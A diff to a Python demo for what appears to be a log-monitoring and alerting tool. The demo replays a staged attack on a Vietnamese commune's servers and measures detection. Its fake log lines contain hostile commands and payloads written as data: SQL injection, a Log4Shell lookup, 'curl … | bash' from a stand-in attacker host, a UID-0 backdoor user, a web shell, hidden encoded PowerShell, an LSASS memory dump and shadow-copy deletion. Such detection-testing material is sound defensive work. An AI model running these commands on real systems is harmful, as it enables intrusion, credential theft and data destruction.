@@ -1,4 +1,4 @@
-"""`haidang demo`: an attack of our own making is played through the real inputs, syslog and HTTP; events and alerts leave.
+"""`haidang demo`: an attack of our making is played through the real inputs, syslog and HTTP; events and alerts leave.
 
 A commune's web server is scanned, its SSH guessed, a back door made; from there a clerk's Windows machine falls. All
 names and addresses are of documentation ranges (RFC 5737).
@@ -11,6 +11,7 @@ import socket
 import sys
 import threading
 import time
+from collections import Counter
 from collections.abc import Iterator
 from contextlib import contextmanager
 from dataclasses import dataclass
@@ -79,7 +80,7 @@ def run(chosen: argparse.Namespace) -> int:
     engine = open_state(settings.data_dir)
     chapters = story()
     sent = sum(len(chapter.sent) for chapter in chapters)
-    with _pipeline(settings, engine):
+    with _pipeline(settings, engine, quiet=chosen.json):
         syslog, web = _ports(engine)
         with _token(engine) as token:
             started = time.time()
@@ -114,31 +115,38 @@ def story() -> tuple[Chapter, ...]:
             _access("10.20.0.15", "GET /index.html", 200, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/140.0"),
             _access("10.20.0.22", "GET /thu-tuc/ho-tich.html", 200, "Mozilla/5.0 (X11; Linux x86_64) Chrome/140.0"),
             Line(9, "CRON[3999]", "(root) CMD (/usr/sbin/logrotate /etc/logrotate.conf)"),
-            Line(10, "sshd[4001]", "Accepted publickey for quantri from 10.20.0.5 port 50522 ssh2: ED25519 SHA256:Zm9v"),
+            Line(10, "sshd[4001]", "Accepted publickey for quantri from 10.20.0.5 port 50522 ssh2: ED25519 SHA256:Zg"),
         )),
         Chapter("demo.scan", (
             _access(_ATTACKER, "GET /admin.php", 404, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)"),
             _access(_ATTACKER, "GET /../../../../etc/passwd", 400, "Mozilla/5.00 (Nikto/2.5.0)"),
-            _access(_ATTACKER, "GET /tra-cuu?so=1%27%20UNION%20SELECT%20user,password%20FROM%20users--", 200, "sqlmap/1.9"),
+            _access(_ATTACKER, "GET /tra-cuu?so=1%27%20UNION%20SELECT%20user,password%20FROM%20users--", 200, "sqlmap"),
             _access(_ATTACKER, "GET /?x=$%7Bjndi:ldap://203.0.113.45/a%7D", 200, "curl/8.5.0"),
         )),
-        Chapter("demo.guess", (*strangers, *guesses, Line(10, "sshd[4300]", f"Accepted password for root from {_ATTACKER} port 42001 ssh2"))),
+        Chapter("demo.guess", (
+            *strangers, *guesses,
+            Line(10, "sshd[4300]", f"Accepted password for root from {_ATTACKER} port 42001 ssh2"),
+        )),
         Chapter("demo.backdoor", (
-            Line(10, "useradd[4310]", "new user: name=hotro, UID=0, GID=0, home=/home/hotro, shell=/bin/bash, from=/dev/pts/0"),
+            Line(10, "useradd[4310]",
+                 "new user: name=hotro, UID=0, GID=0, home=/home/hotro, shell=/bin/bash, from=/dev/pts/0"),
             Line(10, "usermod[4311]", "add 'hotro' to group 'sudo'"),
             Line(9, "CRON[4312]", f"(root) CMD (curl -s http://{_ATTACKER}/x.sh | bash)"),
             _access(_ATTACKER, "POST /uploads/c99.php", 200, "curl/8.5.0"),
         )),
         Chapter("demo.windows", (
-            _process("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
+            _process("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+                     "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                      "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="),
             _process("C:\\Windows\\System32\\rundll32.exe", "C:\\Windows\\System32\\cmd.exe",
                      "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\l.dmp full"),
             Sysmon("System", "Service Control Manager", 7045, {
-                "ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe", "ServiceType": "user mode service",
-                "StartType": "demand start", "AccountName": "LocalSystem"}),
-            _process("C:\\Windows\\System32\\vssadmin.exe", "C:\\Windows\\System32\\cmd.exe", "vssadmin.exe delete shadows /all /quiet"),
-            Sysmon("Security", "Microsoft-Windows-Eventlog", 1102, {"SubjectUserName": "vanthu02", "SubjectDomainName": "UBND"}),
+                "ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
+                "ServiceType": "user mode service", "StartType": "demand start", "AccountName": "LocalSystem"}),
+            _process("C:\\Windows\\System32\\vssadmin.exe", "C:\\Windows\\System32\\cmd.exe",
+                     "vssadmin.exe delete shadows /all /quiet"),
+            Sysmon("Security", "Microsoft-Windows-Eventlog", 1102,
+                   {"SubjectUserName": "vanthu02", "SubjectDomainName": "UBND"}),
         )),
     )  # fmt: skip
 
@@ -150,9 +158,10 @@ def _access(client: str, request: str, status: int, agent: str) -> Line:
 
 def _process(image: str, parent: str, command_line: str) -> Sysmon:
     return Sysmon("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 1, {
-        "UtcTime": datetime.now(UTC).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3], "ProcessId": str(secrets.randbelow(9000) + 1000),
-        "Image": image, "CommandLine": command_line, "CurrentDirectory": "C:\\Users\\vanthu02\\", "User": "UBND\\vanthu02",
-        "IntegrityLevel": "High", "ParentImage": parent, "ParentCommandLine": parent,
+        "UtcTime": datetime.now(UTC).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
+        "ProcessId": str(secrets.randbelow(9000) + 1000), "Image": image, "CommandLine": command_line,
+        "CurrentDirectory": "C:\\Users\\vanthu02\\", "User": "UBND\\vanthu02", "IntegrityLevel": "High",
+        "ParentImage": parent, "ParentCommandLine": parent,
         "OriginalFileName": image.rpartition("\\")[2]})  # fmt: skip
 
 
@@ -180,8 +189,9 @@ def _post(port: int, token: str, item: Sysmon, number: int) -> None:
     record = {
         "Event": {
             "System": {
-                "Provider": {"#attributes": {"Name": item.provider}}, "EventID": item.code, "Level": 4, "Channel": item.channel,
-                "Computer": _CLERK, "TimeCreated": {"#attributes": {"SystemTime": format_time(now)}},
+                "Provider": {"#attributes": {"Name": item.provider}}, "EventID": item.code, "Level": 4,
+                "Channel": item.channel, "Computer": _CLERK,
+                "TimeCreated": {"#attributes": {"SystemTime": format_time(now)}},
                 "EventRecordID": int(now.timestamp() * 1000) + number,
             },
             "EventData": item.data,
@@ -212,14 +222,9 @@ def _outcome(
         if found >= sent and raised > before and raised == earlier:
             break
         time.sleep(1)
-    query = (
-        select(alerts.c.rule_name, func.count())
-        .where(alerts.c.created >= started - 1)
-        .group_by(alerts.c.rule_name)
-        .order_by(func.count().desc(), alerts.c.rule_name)
-    )
+    query = select(alerts.c.document).where(alerts.c.created >= started - 1).order_by(alerts.c.rule_name)
     with engine.connect().execution_options(read_only=True) as connection:
-        return found, [(name, count) for name, count in connection.execute(query)]
+        return found, Counter(show.rule_name(document) for document in connection.scalars(query)).most_common()
 
 
 def _count_alerts(engine: Engine, since: float) -> int:
@@ -255,12 +260,14 @@ def _token(engine: Engine) -> Iterator[str]:
 
 
 @contextmanager
-def _pipeline(settings: Settings, engine: Engine) -> Iterator[None]:
+def _pipeline(settings: Settings, engine: Engine, quiet: bool) -> Iterator[None]:
     """Use the pipeline that runs, or run one for the time of the demo."""
     if is_running(settings.data_dir, "run"):
         yield
         return
-    show.line(say("command.demo.starts"))
+    if not quiet:
+        show.line(say("command.demo.starts"))
+        sys.stdout.flush()
     supervisor = Supervisor(settings.data_dir, list(STAGES))
     since = time.time()
     supervisor.start()
